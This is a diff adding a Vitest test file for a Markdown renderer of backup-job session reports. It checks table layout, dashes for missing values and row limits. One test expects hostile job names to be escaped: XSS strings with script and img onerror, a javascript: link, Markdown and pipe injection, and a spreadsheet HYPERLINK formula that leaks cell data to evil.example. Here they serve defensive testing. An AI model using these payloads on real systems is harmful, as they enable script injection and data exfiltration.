@@ -1,0 +1,159 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '../src/render/render-markdown.js';
+import { ReportError } from '../src/report-error.js';
+import { hostileReport, jobReport, sessionReport, smallReport } from './render-fixtures.js';
+
+const lines = (...text: string[]) => `${text.join('\n')}\n`;
+
+/** A table row's cells, split at the pipes a GFM parser would split at (unescaped ones). */
+function cells(row: string): string[] {
+  const found: string[] = [];
+  let cell = '';
+  for (let index = 0; index < row.length; index += 1) {
+    const char = row[index];
+    if (char === '\\') {
+      cell += row.slice(index, index + 2);
+      index += 1;
+    } else if (char === '|') {
+      found.push(cell.trim());
+      cell = '';
+    } else {
+      cell += char;
+    }
+  }
+  return [...found, cell.trim()].slice(1, -1);
+}
+
+/** Characters that would mean something to Markdown or HTML, not escaped. */
+const UNESCAPED = /(?<!\\)(?:\\\\)*[`*_~[\]<>]|(?<!\\)(?:\\\\)*(?:@|:\/\/|www\.)/;
+
+describe('renderMarkdown', () => {
+  it('renders a report as headings and tables', () => {
+    expect(renderMarkdown(smallReport())).toBe(
+      lines(
+        '# Session report',
+        '',
+        'Sessions 2025-09-17 00:00 – 2025-09-24 00:00 (Europe/Berlin), policy strict, generated 2025-09-24 10:00.',
+        '',
+        '## Totals',
+        '',
+        '| Jobs | Runs | Attempts | Success | Warning | Failed | Running | Success rate | Jobs breaching RPO | VMs breaching RPO |',
+        '| ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
+        '| 3 | 24 | 26 | 17 | 1 | 6 | 1 | 70.8% | 1 | 1 |',
+        '',
+        '## Jobs',
+        '',
+        '| Job | Health | Last result | Last success | Runs | Success rate | Notes |',
+        '| --- | --- | --- | ---: | ---: | ---: | --- |',
+        '| Nightly SQL | critical | Failed | 2d 4h ago | 14 | 57.1% | running for 3h 20m; slower than usual; 2 failed runs in a row; no success for 2d 4h (RPO 1d) |',
+        '| File server | warning | Warning | 8h 20m ago | 7 | 85.7% | last run ended with a warning |',
+        '| Replica DC | ok | Success | 1h ago | 3 | 100.0% |  |',
+        '',
+        '## Failed sources',
+        '',
+        'The report is partial: these sources did not answer.',
+        '',
+        '| Source | Error |',
+        '| --- | --- |',
+        '| em2.example.com | connect ECONNREFUSED 10.0.0.2:9398 |',
+        '',
+        '## Missed jobs',
+        '',
+        'Jobs with no session in the window.',
+        '',
+        '| Job | Type | Schedule |',
+        '| --- | --- | --- |',
+        '| Weekly archive | Backup | disabled |',
+        '',
+        '## VMs breaching RPO',
+        '',
+        '| VM | Job | Last success | RPO |',
+        '| --- | --- | ---: | ---: |',
+        '| sql01 | Nightly SQL | 2d 4h ago | 1d |',
+        '',
+        '## Top failure reasons',
+        '',
+        '| Count | Reason | Example |',
+        '| ---: | --- | --- |',
+        '| 5 | Timed out after &lt;n&gt; s | Timed out after 900 s |',
+        '| 4 | Failed to create VM snapshot on host &lt;host&gt; | Failed to create VM snapshot on host esx01 |',
+      ),
+    );
+  });
+
+  it('says plainly that the window had no job sessions instead of empty tables', () => {
+    expect(renderMarkdown(sessionReport())).toBe(
+      lines(
+        '# Session report',
+        '',
+        'Sessions 2025-09-17 00:00 – 2025-09-24 00:00 (Europe/Berlin), policy strict, generated 2025-09-24 10:00.',
+        '',
+        'No job sessions in the window 2025-09-17 00:00 – 2025-09-24 00:00.',
+      ),
+    );
+  });
+
+  it('shows missing values as dashes', () => {
+    const report = smallReport();
+    report.totals.successRate = null;
+    report.jobs = [
+      jobReport({
+        jobName: 'New',
+        lastResult: null,
+        lastSuccessAgeSeconds: null,
+        successRate: null,
+      }),
+    ];
+    const output = renderMarkdown(report);
+    expect(output).toContain('\n| 3 | 24 | 26 | 17 | 1 | 6 | 1 | — | 1 | 1 |\n');
+    expect(output).toContain('\n| New | ok | — | — | 1 | — |  |\n');
+  });
+
+  it('shows at most `top` rows per list and says how many there are', () => {
+    const output = renderMarkdown(hostileReport(), { top: 3 });
+    expect(output).toContain(
+      '\n## Missed jobs\n\nJobs with no session in the window. Showing 3 of 20.\n\n| Job |',
+    );
+    expect(output).toContain('\n## VMs breaching RPO\n\nShowing 3 of 20.\n\n| VM |');
+    expect(output).toContain('\n## Top failure reasons\n\nShowing 3 of 20.\n\n| Count |');
+    expect(() => renderMarkdown(smallReport(), { top: 0 })).toThrow(ReportError);
+  });
+
+  it('keeps hostile names inert: tables intact, no HTML, links, code or emphasis', () => {
+    const output = renderMarkdown(hostileReport(), { top: 100 });
+    const blocks = output.trimEnd().split('\n\n');
+    for (const block of blocks) {
+      const rows = block.split('\n');
+      if (!block.startsWith('|')) {
+        expect(rows).toHaveLength(1);
+        continue;
+      }
+      const width = cells(rows[0] ?? '').length;
+      for (const row of rows) {
+        expect(row).toMatch(/^\| .* \|$/);
+        expect(cells(row)).toHaveLength(width);
+        for (const cell of cells(row)) expect(cell).not.toMatch(UNESCAPED);
+      }
+    }
+    // The totals table, then five tables of 20 rows: jobs, failed sources, missed jobs, VMs, reasons.
+    expect(output.split('\n').filter((line) => line.startsWith('| '))).toHaveLength(
+      3 + 5 * (2 + 20),
+    );
+    expect(output).not.toMatch(/[^\P{Cc}\n]|\u202E/u);
+    expect(output).toContain('| &lt;script&gt;alert(1)&lt;/script&gt; | critical |');
+    expect(output).toContain('| "&gt;&lt;img src=x onerror=alert(1)&gt; | critical |');
+    expect(output).toContain('| \\[click\\](javascript:alert(1)) | critical |');
+    expect(output).toContain('| a \\| b \\|\\| c | critical |');
+    expect(output).toContain('| first line second line | critical |');
+    expect(output).toContain('| quote " and \\\\" backslash \\\\ | critical |');
+    expect(output).toContain(
+      '| \\`code\\` \\*bold\\* \\_em\\_ \\~\\~strike\\~\\~ \\\\\\* | critical |',
+    );
+    expect(output).toContain('=HYPERLINK("http\\://evil.example/?leak="&amp;A1,"x")');
+  });
+
+  it('escapes the time zone and policy too', () => {
+    const report = sessionReport({ policy: '*strict*' as 'strict' });
+    expect(renderMarkdown(report)).toContain(', policy \\*strict\\*, ');
+  });
+});
